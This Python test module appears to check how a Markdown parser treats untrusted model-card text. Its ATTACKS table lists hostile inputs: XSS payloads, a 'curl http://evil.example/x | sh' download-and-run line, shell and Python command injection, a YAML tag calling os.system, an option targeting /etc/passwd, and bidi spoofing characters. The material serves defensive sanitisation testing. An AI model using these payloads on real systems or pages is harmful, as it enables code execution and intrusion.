"""What strangers may write where a page shows their words, and what a real Markdown parser makes of a card."""

import shlex
from functools import lru_cache

from markdown_it import MarkdownIt

ATTACKS = {
    "image tag": '../<img src="http://evil.example/b.png" onerror=alert(1)>',
    "script": "</code></pre><script>alert(1)</script>",
    "comment": "<!-- --> <b>x</b> <!--",
    "open comment": "<!--",
    "processing": "<?php x ?> <![CDATA[ <!DOCTYPE x",
    "open tag": "<img src=x ",
    "Markdown image": "![x](http://evil.example/b.png)",
    "Markdown link": "[click](javascript:alert(1)) and [two][three] [three]: http://evil.example",
    "escaped link": "\\[click\\](http://evil.example) \\![x\\](http://evil.example)",
    "definition": "[12]: http://evil.example 'title'",
    "brackets alone": "[12]",
    "autolink": "<http://evil.example> <mailto:a@evil.example>",
    "bare address": "http://evil.example www.evil.example a@evil.example",
    "backticks": "`<img src=x>` ``<b>`` ``` <i>",
    "one backtick": "a ` b",
    "backslash and backtick": "\\`<img src=x>\\`",
    "backslashes": "a\\\\`<b>\\\\` \\\\",
    "last backslash": "ends with \\",
    "fence": "x\n```\n<img src=x>\n```\n# heading",
    "tildes": "~~~\n<img src=x>\n~~~",
    "long fence": "x\n````````\n<b>\n````````\n",
    "pipes": "a | <img src=x> | ![x](http://evil.example)",
    "pipe in code": "a`|<img src=x>|`b",
    "backslash and pipe": "a\\|<img src=x>\\\\|<b>",
    "newlines": "one\n\n# two\n\n- three\n\n<b>four</b>\r\n\r> five",
    "other newlines": "one\u2028# two\u0085- three\x0b\x0c<b>",
    "indented": "\n\n    <b>code</b>",
    "table": "x |\n| --- |\n| y",
    "underline": "heading\n===\n---",
    "YAML": "x\n---\nlicense: mit\n...\n--- !!python/object:os.system",
    "YAML anchors": "&a *a !!python/name:os.system {x: y} [z] # c",
    "YAML quotes": "'\"\n license: mit: - ? | > %TAG @",
    "Jinja": "{{ 7 * 7 }} {% raw %} {# #}",
    "emphasis": "**bold** _it_ __b__ ~~gone~~ *i*",
    "one star": "a ** b",
    "entities": "&lt;img src=x&gt; &#60;b&#62; &amp; &copy;",
    "bidi": "abc\u202egnp.exe\u2066\u200f\u200bzero\ufeff\u2060width\u00ad",
    "controls": "a\x00b\x1b[31mred\x07\x7f",
    "surrogate": "a\ud800b",
    "shell": "m; curl http://evil.example/x | sh",
    "shell quotes": "a' ; touch x ; ' \" $(touch y) `touch z` && b || c > d < e & f \\",
    "shell lines": "m\ntouch x\n",
    "shell option": "--output=/etc/passwd",
    "Python": '"); import os; os.system("x") #',
    "Python lines": 'x"\nimport os\n"',
    "math": "$$\\href{javascript:alert(1)}{x}$$ \\(x\\)",
    "quote": "> [!NOTE] x",
    "list": "- x",
    "number": "1. x",
    "heading": "# x",
    "rule": "---",
    "empty": "",
    "spaces": "  ",
}


@lru_cache(maxsize=8)  # a card is asked for its blocks, its links and its commands
def parse(text: str) -> list:
    """The tokens of a Markdown text, blocks and what is in them, as GitHub and the Hub read it."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    flat = []
    for token in parser.parse(text):
        flat += [token, *(token.children or [])]
    return flat


def structure(text: str) -> list[str]:
    """What a Markdown text is made of, without its words: `text` and breaks of lines are left out."""
    return [f"{token.type} {token.info}" for token in parse(text) if token.type not in ("text", "softbreak", "inline")]


def live(text: str) -> list[str]:
    """Every link, picture and piece of HTML in a Markdown text, with its address."""
    return [
        f"{token.type} {token.attrs.get('href') or token.attrs.get('src') or token.content}"
        for token in parse(text)
        if token.type in ("link_open", "image", "html_inline", "html_block")
    ]


def commands(text: str) -> list[list[str]]:
    """The commands in the shell blocks of a Markdown text, with what a shell would take for an operator apart.

    What stands in a file that a block writes (`cat > NAME <<'YAML'`) is no command.
    """
    blocks = [token.content for token in parse(text) if token.type == "fence" and token.info == "bash"]
    found = []
    is_content = False
    for line in "".join(blocks).splitlines():
        if is_content:
            is_content = line != "YAML"
            continue
        is_content = line.endswith("<<'YAML'")
        words = shlex.shlex(line, posix=True, punctuation_chars=True)
        words.whitespace_split = True
        found.append(list(words))
    return found


def unseen(text: str) -> set[str]:
    """The characters of a text that nobody sees, or that turn the direction of others."""
    return {
        char for char in text if char in "\u200b\u200f\u202e\u2066\u2060\ufeff\u00ad\x00\x1b\x07\x7f\x0b\x0c\u2028\x85"
    }
